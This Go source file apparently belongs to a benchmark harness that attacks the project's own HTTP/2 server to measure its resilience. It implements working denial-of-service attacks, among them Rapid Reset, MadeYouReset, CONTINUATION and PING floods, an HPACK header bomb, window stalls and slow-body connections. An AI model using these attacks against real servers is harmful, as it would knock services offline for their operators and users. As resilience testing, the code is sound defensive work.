package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"

	"example.com/roster/bench/internal/measure"
	"example.com/roster/server/h2/h2test"
)

var (
	noWindow   = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	wideWindow = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}
)

// All is every attack.
var All = []Attack{
	{Key: "rapid-reset", Title: "Rapid Reset: streams opened and reset at once", step: func(c *conn) error {
		id, err := c.open(true)
		return errors.Join(err, c.WriteRSTStream(id, http2.ErrCodeCancel))
	}},
	{Key: "made-you-reset", Title: "MadeYouReset: streams that the server is made to reset", step: madeYouReset},
	{Key: "ping-flood", Title: "PING flood, answers not read", silent: true, step: func(c *conn) error {
		return c.WritePing(false, [8]byte{})
	}},
	{Key: "settings-flood", Title: "SETTINGS flood, answers not read", silent: true, step: func(c *conn) error {
		return c.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16384})
	}},
	{Key: "continuation-flood", Title: "CONTINUATION frames without end", start: func(c *conn) error {
		return c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.Block(h2test.Call("/MyService/User")...)})
	}, step: func(c *conn) error {
		// A literal field without indexing, over and over.
		return c.WriteContinuation(1, false, []byte(strings.Repeat("\x00\x01a\x01b", 2000)))
	}},
	{Key: "empty-frames", Title: "empty DATA frames without end", start: openOne, step: func(c *conn) error {
		return c.WriteData(1, false, nil)
	}},
	{Key: "header-bomb", Title: "headers that refer to the HPACK table thousands of times", step: headerBomb},
	{Key: "zero-window", Title: "large replies asked for, windows of zero", settings: noWindow, start: largeReplies},
	{Key: "tiny-window", Title: "large replies asked for, one byte of window at a time", settings: noWindow, start: func(c *conn) error {
		return requests(c, 100, 1000)
	}, step: func(c *conn) error {
		c.NextID = (c.NextID + 2) % 200
		return c.WriteWindowUpdate(c.NextID|1, 1)
	}},
	{Key: "slow-reader", Title: "large replies asked for, the socket not read", settings: wideWindow, silent: true, start: largeReplies},
	{Key: "streams-left", Title: "streams opened and left", step: openOne},
	{Key: "slow-body", Title: "bodies of 4 MB promised, a byte a second", start: slowBody},
	{Key: "endless-body", Title: "messages without end in one unary call", start: openOne, step: func(c *conn) error {
		message := make([]byte, 16379)
		binary.BigEndian.PutUint32(message[1:], uint32(len(message)-5))
		return c.WriteData(1, false, message)
	}},
	{Key: "half-open", Title: "1,000 connections that send half a preface", bare: true, silent: true, many: 250, start: func(c *conn) error {
		_, err := c.wire.WriteString(http2.ClientPreface[:12])
		return err
	}},
}

// Floods make calls of two ids as fast as the server answers.
var Floods = []Attack{
	{Key: "unlimited", Title: "no rate limit", flood: true, settings: wideWindow},
	// The well-behaved caller stays far below the limit.
	{Key: "limited", Title: "`--rate-limit 1000 --rate-burst 100`", flood: true, settings: wideWindow,
		flags: []string{"--rate-limit", "1000", "--rate-burst", "100"}},
}

// FloodStreams is how many calls each connection of a flood makes at a time.
const FloodStreams = 100

func (c *conn) flood(ctx context.Context, result *Result) error {
	more := func() bool { return ctx.Err() == nil && c.wire.Flush() == nil }
	return errors.Join(c.wire.Flush(), c.Pump(FloodStreams, "/MyService/User", measure.Request(2), more, func(answered bool) {
		if answered {
			atomic.AddInt64(&result.Answered, 1)
		} else {
			atomic.AddInt64(&result.Refused, 1)
		}
	}))
}

func openOne(c *conn) error {
	_, err := c.open(false)
	return err
}

// madeYouReset breaks the rules on a stream whose request is complete, so that the server resets it
// while the handler is at work: a window that grows by nothing, DATA after the end, a dependency on
// itself, in turn.
func madeYouReset(c *conn) error {
	id, err := c.open(true)
	switch id / 2 % 3 {
	case 0:
		return errors.Join(err, c.WriteWindowUpdate(id, 0))
	case 1:
		return errors.Join(err, c.WriteData(id, true, []byte{0}))
	}
	return errors.Join(err, c.WritePriority(id, http2.PriorityParam{StreamDep: id}))
}

// headerBomb puts one field of 3 KB into the table and then names it 4,000 times in each header:
// 4 KB on the wire, 12 MB once decoded.
func headerBomb(c *conn) error {
	fields := h2test.Call("/MyService/User")
	if c.NextID == 1 {
		fields = append(fields, "x-bomb", strings.Repeat("b", 3000))
	}
	block := append(c.Block(fields...), strings.Repeat("\xbe", 4000)...) // 62, the newest entry
	c.NextID += 2
	return c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.NextID - 2, BlockFragment: block, EndHeaders: true, EndStream: true})
}

// largeReplies asks for 10,000 users, some 450 KB, on every stream that is allowed.
func largeReplies(c *conn) error { return requests(c, 250, 10_000) }

func requests(c *conn, streams, ids int) error {
	for range streams {
		id, err := c.open(false)
		for part := measure.Request(ids); err == nil && len(part) > 0; {
			n := min(len(part), 16384)
			err = c.WriteData(id, n == len(part), part[:n])
			part = part[n:]
		}
		if err := errors.Join(err, c.wire.Flush()); err != nil {
			return err
		}
		// The server decides on the window of the connection: 64 KB at first.
		time.Sleep(2 * time.Millisecond)
	}
	return nil
}

func slowBody(c *conn) error {
	for range 250 {
		id, err := c.open(false)
		if err := errors.Join(err, c.WriteData(id, false, []byte{0, 0, 4 << 20 >> 16, 0, 0})); err != nil {
			return err
		}
	}
	for {
		for id := uint32(1); id < c.NextID; id += 2 {
			if err := c.WriteData(id, false, []byte{10}); err != nil {
				return err
			}
		}
		if err := c.wire.Flush(); err != nil {
			return err // the attack is over: its connections are closed
		}
		time.Sleep(time.Second)
	}
}
